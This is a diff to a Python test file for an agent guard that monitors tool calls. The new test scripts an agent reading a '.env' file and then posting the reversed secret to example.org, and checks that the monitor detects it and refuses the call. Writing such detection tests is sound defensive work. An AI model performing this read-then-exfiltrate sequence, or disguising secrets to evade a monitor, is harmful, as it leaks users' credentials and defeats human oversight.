@@ -8,10 +8,11 @@ from typer.testing import CliRunner
 
 from haltline.cli.app import app
 from haltline.interventions.agent import Guard
+from haltline.interventions.agent.redaction.marks import secret_digest
 from haltline.interventions.agent.rules.objection import TEXTS, THROTTLED
 from haltline.schemas.control import Stage
 from haltline.schemas.decisions import ApprovalState, Decision, Level, ScopeKind
-from haltline.schemas.events import ActionEvent, Kind, Outcome, Task
+from haltline.schemas.events import ActionEvent, Kind, Outcome, SentSecret, Task
 from haltline.schemas.keys import make_keys
 from haltline.schemas.partitioner import partition_of
 from haltline.schemas.seals import Sealer
@@ -101,6 +102,22 @@ def test_events_are_where_pythons_are_and_hold_no_secret(embedded: EmbeddedBroke
     assert {len(partitions) for partitions in places.values()} == {1}
     digests = {event.args_digest for event in worker.events if event.action == "get_asset"}
     assert len(digests) == 1, "the same call has the same digest in both"
+
+
+def test_a_secret_that_is_sent_waits_for_its_verdict_and_has_pythons_digest(embedded: EmbeddedBroker) -> None:
+    def say(event: ActionEvent) -> Level:
+        return Level.KILL if event.secrets_sent else Level.ALLOW
+
+    send = {"url": "https://example.org", "body": SECRET[::-1]}
+    with StandIn(embedded.bootstrap, say) as worker, Agent(embedded.bootstrap, digestKey="k") as agent:
+        allowed = agent("before", "read_file", {"path": ".env"})
+        agent("after", allowed["callId"], f"T={SECRET}", None)
+        with pytest.raises(Raised, match="Refused"):
+            agent("before", "http_post", send)
+        wait_until(lambda: len(worker.of(Kind.PROPOSED)) == 2, "the call has arrived")
+    event = worker.of(Kind.PROPOSED)[-1]
+    sent = SentSecret(kind="github_token", digest=secret_digest(SECRET, b"k"), elsewhere=True)
+    assert (event.secrets_sent, event.await_verdict) == ([sent], True)
 
 
 def test_hints_limits_and_refusals_are_obeyed_by_their_level(embedded: EmbeddedBroker) -> None:
